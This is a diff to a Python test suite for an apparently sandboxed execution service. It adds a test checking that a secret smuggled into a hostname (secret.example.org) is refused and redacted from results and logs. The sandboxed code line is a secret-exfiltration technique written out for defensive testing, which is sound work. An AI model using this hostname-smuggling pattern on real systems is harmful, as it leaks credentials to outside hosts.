@@ -6,7 +6,9 @@ loopback, which the operator's settings permit.
     egress.py BIN
 """
 
+import base64
 import hashlib
+import json
 import os
 import socket
 import socketserver
@@ -199,6 +201,18 @@ def test_attempts_are_in_the_log(cluster):
         events = [entry["event"] for entry in entries if entry["event"].get("execution_id") == end["execution_id"]]
         seen = {(event["event"], event["detail"].split(" ")[0]) for event in events if event["event"].startswith("network.")}
     assert seen == wanted, events
+
+
+def test_secrets_in_names_are_not_recorded(cluster):
+    secret = "Tk3AbcDefgh12345678"
+    cluster.client().request("cloister/vault/add", {"name": "DNSKEY", "value": base64.b64encode(secret.encode()).decode()})
+    end = run(cluster, "import os\nget('http://' + os.environ['DNSKEY'] + '.example.org/')", "web.test", env_secrets=["DNSKEY"])
+    assert secret.lower() not in json.dumps(end).lower() and "***REDACTED***.example.org is not among" in end["error"]["hint"], end
+    until = time.monotonic() + 10
+    while "network.refused" not in (seen := json.dumps(cluster.call("audit_execution", {"limit": 20}))):
+        assert time.monotonic() < until, seen
+    assert secret.lower() not in seen.lower()
+    assert secret.lower() not in cluster.log("executor").lower() and secret.lower() not in cluster.log("egress").lower()
 
 
 def test_without_egress(cluster):
